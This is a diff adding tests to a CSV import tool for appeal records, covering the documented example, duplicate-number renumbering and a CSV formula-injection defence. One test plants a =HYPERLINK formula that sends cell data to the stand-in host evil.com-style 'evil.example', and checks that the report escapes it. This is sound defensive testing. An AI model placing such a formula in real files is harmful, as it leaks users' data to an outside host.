@@ -58,6 +58,27 @@ afterAll(async () => {
 });
 
 describe('murojaat import', () => {
+  it('the example in docs/examples reads as docs/import.md says', async () => {
+    const csv = path.join(dir, 'example.csv');
+    await writeFile(csv, await readFile('docs/examples/import-appeals.csv'));
+    const result = await run([
+      'import',
+      '--file',
+      csv,
+      '--mapping',
+      'docs/examples/import-mapping.json',
+      '--dry-run',
+    ]);
+    expect(result.out).toContain(
+      '4 rows: 3 would be imported, 0 already imported, 1 refused, 2 would get a new number',
+    );
+    const report = await readFile(`${csv}.report.csv`, 'utf8');
+    expect(report.split('\n').filter((l) => l.includes(',refused,'))).toEqual([
+      '5,refused,Received,not a date (DD.MM.YYYY),,',
+      '5,refused,Status,"unknown status ""Arxivda"" (add it to values.status)",,',
+    ]);
+  });
+
   it('a dry run checks and reports every row but writes nothing', async () => {
     const before = { appeals: await appeals(), imported: await imported() };
     const result = await run([
@@ -201,6 +222,44 @@ describe('murojaat import', () => {
       select i.source_number from appeal_links l join appeal_imports i on i.appeal_id = l.other_id
       where l.appeal_id = ${id} and l.kind = 'repeat'`.execute(t.ownerDb);
     expect(links.rows.map((r) => r.source_number)).toContain('IIV-2024-0000001');
+  });
+
+  it('attack: a number written as a spreadsheet formula is not a formula in the report', async () => {
+    const rows = sampleRegisterRows(2, {}, 'FORMULA');
+    const first = rows[1];
+    if (first) first[1] = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const csv = path.join(dir, 'formula.csv');
+    const quote = (v: unknown) => `"${String(v ?? '').replace(/"/g, '""')}"`;
+    await writeFile(csv, rows.map((r) => r.map(quote).join(',')).join('\n'));
+    const result = await run([
+      'import',
+      '--file',
+      csv,
+      '--mapping',
+      path.join(dir, 'mapping.json'),
+      '--dry-run',
+    ]);
+    expect(result.out).toContain('2 rows: 2 would be imported');
+    const report = await readFile(`${csv}.report.csv`, 'utf8');
+    const line = report.split('\n').find((l) => l.startsWith('2,renumbered,'));
+    expect(line?.split(',')[4]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+  });
+
+  it('does not keep a number another appeal already has', async () => {
+    // The sample imported above kept IIV-2024-0000101, which the example's first row also carries.
+    const result = await run([
+      'import',
+      '--file',
+      path.join(dir, 'example.csv'),
+      '--mapping',
+      'docs/examples/import-mapping.json',
+      '--dry-run',
+    ]);
+    expect(result.out).toContain(
+      '4 rows: 3 would be imported, 0 already imported, 1 refused, 3 would get a new number',
+    );
+    const report = await readFile(path.join(dir, 'example.csv.report.csv'), 'utf8');
+    expect(report).toContain('2,renumbered,,the number is not ours or is taken,IIV-2024-0000101,');
   });
 
   it('refuses a mapping that names a column the file lacks, before touching the database', async () => {
